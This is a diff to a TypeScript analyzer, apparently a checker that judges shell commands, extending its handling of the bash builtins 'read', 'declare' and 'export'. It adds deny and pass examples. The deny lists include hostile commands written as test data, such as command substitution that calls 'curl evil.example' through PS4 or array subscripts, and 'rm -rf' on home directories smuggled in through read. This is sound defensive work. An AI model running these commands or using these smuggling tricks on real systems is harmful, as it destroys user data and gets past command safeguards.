@@ -427,6 +427,10 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const set = names(p.operands.map((o) => o.word));
       if (array && value(array)) set.push(value(array)!);
       const uses = call.args.map((word) => ({ word, role: 'text' as const }));
+      // A word computed when the line runs where an option or a name stands may be -a, -u, -d or any name: what it
+      // sets, and from where, is not followed (`read -ra $n <<< …; rm "${a[@]}"`).
+      const open = p.dynamic?.word ?? [array, ...p.operands.map((o) => o.word)].find((w) => w !== undefined && w.values === null);
+      if (open) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: open, why: `read ${open.text}: a word computed when the line runs may be an option (-a, -u, -d) or any name, so what read sets cannot be told` }], uses };
       const reads = readLine(call, p, set, array !== undefined ? value(array) : undefined);
       const delim = p.options.find((o) => o.name === 'd');
       const d = delim ? (delim.value?.values?.length === 1 ? delim.value.values[0] : undefined) : '\n';
@@ -440,7 +444,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     examples: {
       // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
       // From its own static input, what it sets is known; read again from input a group or loop hands on, it is not.
-      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'", "IFS= read -r c <<< curl; $c evil.example"],
+      deny: ['read -ra "$n" <<< "-rf $HOME"; rm "${a[@]}"', "read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1", "read -ra a <<< '-rf /home/dev'; rm \"${a[@]}\"", "read -r x y <<< '-rf /home/dev'; rm $x $y", "IFS=, read -ra a <<< '-rf,/home/dev'; rm \"${a[@]}\"", "while read -r l; do $l evil.example; done <<< $'ls\\ncurl'", "IFS= read -r c <<< curl; $c evil.example"],
       pass: ['read -r name', "IFS= read -r c <<< ls; $c -la", 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1", "read -ra a <<< '-rf dist'; rm \"${a[@]}\"", "read -r x y <<< '-rf dist'; rm $x $y", "IFS=, read -ra a <<< '-rf,dist'; rm \"${a[@]}\""],
     },
   }, { when: /(?:)/, why: 'read sets variables from what it reads, printing none of it', examples: { deny: [], pass: ['read -r k <<< "$NPM_TOKEN"'] } }),
@@ -521,8 +525,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'export $(true)', 'export $(grep -v \'^#\' config.env | xargs)', 'declare -p', 'declare -x', 'declare +x', 'typeset', 'run() { "$@"; }; run make test; export -f run', 'run() { "$@"; }; run make test; declare -fx run', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
-      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)', "declare -n p=PS4; p='+ '; set -x; true", 'declare "FOO=bar baz"', 'export "PATH=$HOME/bin:$PATH"', 'for v in A B; do export "$v=1"; done', 'f() { declare -g "$1=x"; }; f out', 'export PATH="$HOME/.pyenv/bin:$PATH"', 'declare -x PYENV_ROOT=~/.pyenv', 'run() { echo "$1"; }; run make; export -f run'],
+      deny: ['X=curl; declare $o R=X; $R evil.example', 'declare -i "$n"; n=1', 'export', 'export -p', 'export $(true)', 'export $(grep -v \'^#\' config.env | xargs)', 'declare -p', 'declare -x', 'declare +x', 'typeset', 'run() { "$@"; }; run make test; export -f run', 'run() { "$@"; }; run make test; declare -fx run', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
+      pass: ['local "$name"', 'declare -g "$n"', 'export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)', "declare -n p=PS4; p='+ '; set -x; true", 'declare "FOO=bar baz"', 'export "PATH=$HOME/bin:$PATH"', 'for v in A B; do export "$v=1"; done', 'f() { declare -g "$1=x"; }; f out', 'export PATH="$HOME/.pyenv/bin:$PATH"', 'declare -x PYENV_ROOT=~/.pyenv', 'run() { echo "$1"; }; run make; export -f run'],
     },
   },
   {
